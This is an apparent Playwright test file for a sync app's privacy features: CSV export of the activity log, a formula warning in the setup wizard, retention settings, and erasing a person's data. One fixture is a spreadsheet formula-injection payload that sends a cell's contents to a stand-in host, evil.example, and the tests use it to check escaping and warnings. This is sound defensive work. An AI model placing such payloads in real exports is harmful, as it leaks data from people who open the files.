// Privacy and data at rest (issue 13 §3) in Chromium against the headless server: the activity
// log exported to a CSV file through a real download; the wizard's warning about formulas that
// would be written into a CSV app.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createCustomersPair, invoke, syncAndWait } from './api';
import { NOW_SQL, createCustomersDb, execDb, writeCsv } from './app-files';
import { expect, screenshotPath, test } from './fixtures';
import { PairDetailPage } from './pages/pair-detail-page';
import { WizardPage } from './pages/wizard-page';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Paris")';

test('the activity log downloads as a CSV file whose formula-like values a spreadsheet shows as text', async ({ app, concord }) => {
  const dbPath = join(concord.workDir, 'shop.sqlite');
  const csvPath = join(concord.workDir, 'customers.csv');
  createCustomersDb(dbPath, [
    { email: 'ann@example.com', name: 'Ann Archer', city: 'Paris' },
    { email: '+bob@example.com', name: 'Bob', city: 'Berlin' },
  ]);
  writeCsv(csvPath, []);
  const pairId = await createCustomersPair(app, concord, { dbPath, csvPath });
  await syncAndWait(app, concord, pairId);
  // The shop's city becomes a formula; the sync overwrites the sheet's "Paris" with it (logged before → after).
  execDb(dbPath, `UPDATE customers SET city = ?, updated_at = ${NOW_SQL} WHERE email = 'ann@example.com'`, FORMULA);
  await syncAndWait(app, concord, pairId);

  const detail = new PairDetailPage(app);
  await app.reload();
  await detail.open('Shop ⇄ Sheet');
  await detail.tab('Activity').click();
  await expect(detail.table('Activity')).toContainText('ann@example.com');
  const [download] = await Promise.all([app.waitForEvent('download'), detail.button('Export CSV').click()]);
  expect(download.suggestedFilename()).toMatch(/^concord-activity-Shop-Sheet-\d{4}-\d{2}-\d{2}\.csv$/);
  const saved = join(concord.workDir, download.suggestedFilename());
  await download.saveAs(saved);
  const text = readFileSync(saved, 'utf8');
  expect(text.startsWith('\uFEFFWhen,Record,App,Action,Field,Overwritten value,New value,Reason,Run,Restorable\r\n')).toBe(true);
  expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Paris"")"`);
  expect(text).toContain(`ann@example.com,Customer sheet,updated,city,Paris,"'=HYPERLINK(""http://evil.example/?""&A1,""Paris"")"`);
  expect(text).toContain("'+bob@example.com,Customer sheet,created");
  expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
  await expect(app.getByText(/^Exported \d+ activity entries to concord-activity-/)).toBeVisible();
  await app.screenshot({ path: screenshotPath('activity-export') });
});

test('the wizard warns that a CSV app would receive formulas and turns "Neutralise formulas" on from the preview', async ({ app, concord }) => {
  const db = join(concord.workDir, 'shop.sqlite');
  const csv = join(concord.workDir, 'customers.csv');
  createCustomersDb(db, [
    { email: 'ann@example.com', name: 'Ann Archer', city: FORMULA },
    { email: 'bob@example.com', name: 'Bob Baker', city: 'Berlin' },
  ]);
  writeCsv(csv, []);
  const wizard = new WizardPage(app);
  await app.getByRole('button', { name: 'Create a pair' }).click();
  await wizard.expectStep('App A');
  await wizard.fillConnection('SQLite table', 'Shop database', db);
  await wizard.next();
  await wizard.expectStep('App B');
  await wizard.chooseConnector('CSV file');
  await wizard.fillConnection('CSV file', 'Customer sheet', csv);
  // Off by default: the form shows the setting unticked.
  await expect(app.getByRole('checkbox', { name: 'Neutralise formulas' })).not.toBeChecked();
  await wizard.next();
  await wizard.expectStep('Collections');
  await wizard.next();
  await wizard.expectStep('Field mapping');
  await wizard.next();
  await wizard.expectStep('Matching');
  await app.getByRole('button', { name: 'Preview the first sync' }).click();
  const warning = app.getByRole('note', { name: 'Formulas written into App B' });
  await expect(warning).toContainText('App B would receive 1 value that a spreadsheet runs as a formula');
  await expect(warning).toContainText(FORMULA);
  await app.screenshot({ path: screenshotPath('wizard-formula-warning'), fullPage: true });
  await warning.getByRole('button', { name: 'Turn on “Neutralise formulas” for App B' }).click();
  await expect(app.getByText('"Neutralise formulas" is on for Customer sheet.')).toBeVisible();
  await expect(warning).toHaveCount(0);
  const saved = (await invoke(app, concord, 'connections/list', {})).find((c) => c.name === 'Customer sheet');
  expect(saved?.config).toMatchObject({ neutraliseFormulas: true });
});

test('the retention period is set on the About screen, refused out of range, and "Delete older history now" reports what it deleted', async ({ app, concord }) => {
  await app.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'About' }).click();
  const form = app.getByRole('form', { name: 'History kept' });
  const days = form.getByLabel('Keep for (days)');
  await expect(days).toHaveValue('90');
  await days.fill('30');
  await form.getByRole('button', { name: 'Save' }).click();
  await expect(app.getByText('now kept for 30 days')).toBeVisible();
  expect((await invoke(app, concord, 'privacy/settings', {})).retentionDays).toBe(30);
  await form.getByRole('button', { name: 'Delete older history now' }).click();
  await expect(form.getByRole('status')).toContainText('Last clean-up deleted 0 activity entries, 0 runs, 0 resolved conflicts and 0 journal rows from before');
  await app.screenshot({ path: screenshotPath('privacy-retention'), fullPage: true });
  // The browser's own check stops 0; the engine's check stops what gets past it.
  await days.fill('0');
  await form.getByRole('button', { name: 'Save' }).click();
  expect((await invoke(app, concord, 'privacy/settings', {})).retentionDays).toBe(30);
});

test('forgetting a person from the About screen removes them from the activity log and from the database file and WAL', async ({ app, concord }) => {
  const dbPath = join(concord.workDir, 'shop.sqlite');
  const csvPath = join(concord.workDir, 'customers.csv');
  const email = 'dora.forget@example.com';
  createCustomersDb(dbPath, [
    { email, name: 'Dora Forget', city: 'Paris' },
    { email: 'bob@example.com', name: 'Bob Baker', city: 'Berlin' },
  ]);
  writeCsv(csvPath, []);
  const pairId = await createCustomersPair(app, concord, { dbPath, csvPath });
  await syncAndWait(app, concord, pairId);
  execDb(dbPath, `UPDATE customers SET city = 'Lyon', updated_at = ${NOW_SQL} WHERE email = ?`, email);
  await syncAndWait(app, concord, pairId);
  // She leaves: the shop deletes her, the sync carries the delete to the sheet; Concord still remembers her.
  execDb(dbPath, 'DELETE FROM customers WHERE email = ?', email);
  await syncAndWait(app, concord, pairId);
  const holds = () => ['concord.sqlite', 'concord.sqlite-wal'].filter((f) => {
    try {
      return readFileSync(join(concord.dataDir, f)).toString('latin1').toLowerCase().includes(email);
    } catch {
      return false;
    }
  });
  expect(holds()).not.toEqual([]);

  await app.reload();
  await app.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'About' }).click();
  const form = app.getByRole('form', { name: 'Forget a person' });
  await form.getByLabel('Email or other value').fill(email.toUpperCase());
  await form.getByRole('button', { name: 'Forget…' }).click();
  const dialog = app.getByRole('dialog', { name: `Forget ${email.toUpperCase()}?` });
  await expect(dialog).toContainText('This cannot be undone');
  await app.screenshot({ path: screenshotPath('privacy-forget-confirm') });
  await dialog.getByRole('button', { name: 'Forget' }).click();
  await expect(form.getByRole('status')).toContainText('Forgotten: 1 linked record,');
  await app.screenshot({ path: screenshotPath('privacy-forget-done'), fullPage: true });
  expect(holds()).toEqual([]);

  const detail = new PairDetailPage(app);
  await detail.open('Shop ⇄ Sheet');
  await detail.tab('Activity').click();
  const activity = detail.table('Activity');
  await expect(activity).toContainText('(forgotten record)');
  await expect(activity).toContainText('bob@example.com');
  await expect(activity).not.toContainText(/dora/i);
  await app.screenshot({ path: screenshotPath('privacy-forget-activity') });
});
